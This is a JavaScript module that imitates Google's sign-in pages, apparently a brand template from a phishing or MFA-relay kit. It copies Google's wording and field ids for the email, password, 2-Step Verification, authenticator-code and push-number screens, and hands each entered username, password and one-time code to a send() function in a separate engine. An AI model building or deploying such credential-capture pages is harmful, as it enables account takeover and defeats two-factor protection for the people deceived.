// Google Workspace.
import { h } from '../ui.js';
import { instead, run, send, words } from './engine.js';

const userProblems = { missing: 'Enter an email or phone number', 'unknown-user': 'Couldn’t find your Google Account' };
const passwordProblems = {
  missing: 'Enter a password',
  'wrong-password': 'Wrong password. Try again or click Forgot password to reset it.',
  locked: 'Unavailable because of too many failed attempts. Try again in a few hours.',
};
const codeProblems = { missing: 'Enter a code', 'wrong-code': 'Wrong code. Try again.' };

function screen(view, { title, subtitle, content, main, other }) {
  const enter = (event) => {
    if (event.key !== 'Enter' || !main || event.target.tagName !== 'INPUT') return;
    event.preventDefault();
    main.act();
  };
  return h('div', { id: 'initialView', class: 'card', role: 'main' },
    h('div', { class: 'left' }, h('div', { class: 'google', title: 'Google', 'aria-hidden': 'true' }, 'G'),
      h('h1', { id: 'headingText' }, h('span', {}, title)),
      subtitle ? h('div', { id: 'headingSubtext' }, h('span', {}, subtitle)) : null,
      view.username ? h('div', { role: 'button', tabindex: '0', class: 'account', 'aria-label': `${view.username} selected. Switch account`, onclick: () => send({ back: true }) },
        h('div', { 'data-profile-identifier': '' }, view.username)) : null),
    h('div', { class: 'right' }, h('form', { novalidate: true, onsubmit: (event) => event.preventDefault(), onkeydown: enter }, content),
      h('div', { class: 'buttons' }, other || h('span', {}),
        main ? h('div', { id: main.id }, h('div', {}, h('button', { type: 'button', class: 'filled', onclick: main.act }, h('span', {}, main.text)))) : null)));
}

function field(text, problem, attributes) {
  const input = h('input', { 'aria-label': text, 'aria-invalid': problem ? 'true' : 'false', autocapitalize: 'none', spellcheck: 'false', 'data-autofocus': true, ...attributes });
  return {
    input,
    row: h('div', { class: `text-field${problem ? ' wrong' : ''}` }, h('div', {}, input, h('div', { class: 'floating', 'aria-hidden': 'true' }, text)),
      h('div', { 'aria-live': 'polite' }, problem ? h('div', { class: 'problem' }, h('span', { 'aria-hidden': 'true' }, '! '), h('span', {}, problem)) : null)),
  };
}

const plain = (text, act = () => {}) => h('button', { type: 'button', class: 'plain', onclick: act }, h('span', {}, text));
const otherWay = (view) => (view.factors?.length > 1 ? plain('Try another way', () => send({ factor: 'other' })) : null);

function identify(view) {
  const user = field('Email or phone', words(userProblems, view.problem), { type: 'email', id: 'identifierId', name: 'identifier', autocomplete: 'username webauthn', value: view.username || '' });
  return screen({}, {
    title: 'Sign in', subtitle: 'Use your Google Account',
    content: [user.row,
      h('input', { type: 'password', name: 'hiddenPassword', class: 'moveOffScreen', tabindex: '-1', 'aria-hidden': 'true', spellcheck: 'false' }),
      plain('Forgot email?'), h('p', { class: 'small' }, 'Not your computer? Use Guest mode to sign in privately. ', h('a', { href: '#', onclick: instead(() => {}) }, 'Learn more about using Guest mode'))],
    main: { id: 'identifierNext', text: 'Next', act: () => send({ username: user.input.value }) }, other: plain('Create account'),
  });
}

function password(view) {
  const secret = field('Enter your password', words(passwordProblems, view.problem), { type: 'password', name: 'Passwd', autocomplete: 'current-password' });
  return screen(view, {
    title: 'Welcome',
    content: [h('div', { id: 'password' }, secret.row),
      h('label', { class: 'small' }, h('input', { type: 'checkbox', onchange: (event) => { secret.input.type = event.currentTarget.checked ? 'text' : 'password'; } }), ' Show password')],
    main: { id: 'passwordNext', text: 'Next', act: () => send({ password: secret.input.value }) }, other: plain('Forgot password?'),
  });
}

function factors(view) {
  const choices = {
    push: ['39', 'Tap Yes on your phone or tablet'],
    totp: ['6', 'Get a verification code from the Google Authenticator app'],
  };
  return screen(view, {
    title: '2-Step Verification', subtitle: 'To help keep your account safe, Google wants to make sure it’s really you trying to sign in',
    content: [h('h2', {}, 'Choose how you want to sign in:'), h('ul', { class: 'challenges' }, view.factors.map((kind) => {
      const [type, text] = choices[kind];
      const act = () => send({ factor: kind });
      return h('li', {}, h('div', { role: 'link', tabindex: '0', 'data-challengetype': type, onclick: act, onkeydown: (event) => event.key === 'Enter' && act() }, h('div', {}, text)));
    }))],
  });
}

function code(view) {
  const digits = field('Enter code', words(codeProblems, view.problem), { type: 'tel', id: 'totpPin', name: 'totpPin', autocomplete: 'one-time-code', pattern: '[0-9 ]*', dir: 'ltr' });
  return screen(view, {
    title: '2-Step Verification', subtitle: 'To help keep your account safe, Google wants to make sure it’s really you trying to sign in',
    content: [h('p', {}, 'Get a verification code from the ', h('strong', {}, 'Google Authenticator'), ' app'), digits.row,
      h('label', { class: 'small' }, h('input', { type: 'checkbox', checked: true }), ' Don’t ask again on this device')],
    main: { id: 'totpNext', text: 'Next', act: () => send({ code: digits.input.value.trim() }) }, other: otherWay(view),
  });
}

function push(view) {
  return screen(view, {
    title: '2-Step Verification', subtitle: 'To help keep your account safe, Google wants to make sure it’s really you trying to sign in',
    content: [h('samp', { class: 'number' }, String(view.number)), h('h2', {}, 'Check your phone'),
      h('div', {}, 'Google sent a notification to your phone. Tap ', h('strong', {}, 'Yes'), ' on the notification, then tap ', h('strong', {}, String(view.number)), ' on your phone to verify it’s you.'),
      h('label', { class: 'small' }, h('input', { type: 'checkbox', checked: true }), ' Don’t ask again on this device')],
    other: h('div', {}, plain('Resend it'), otherWay(view)),
  });
}

function refused() {
  return screen({}, {
    title: 'Couldn’t sign you in',
    content: [h('p', {}, 'This browser or app may not be secure. ', h('a', { href: '#', onclick: instead(() => {}) }, 'Learn more')),
      h('p', {}, 'Try using a different browser. If you’re already using a supported browser, you can try again to sign in.')],
    main: { id: 'next', text: 'Try again', act: () => send({ back: true }) },
  });
}

run({ identify, password, factors, code, push, refused });
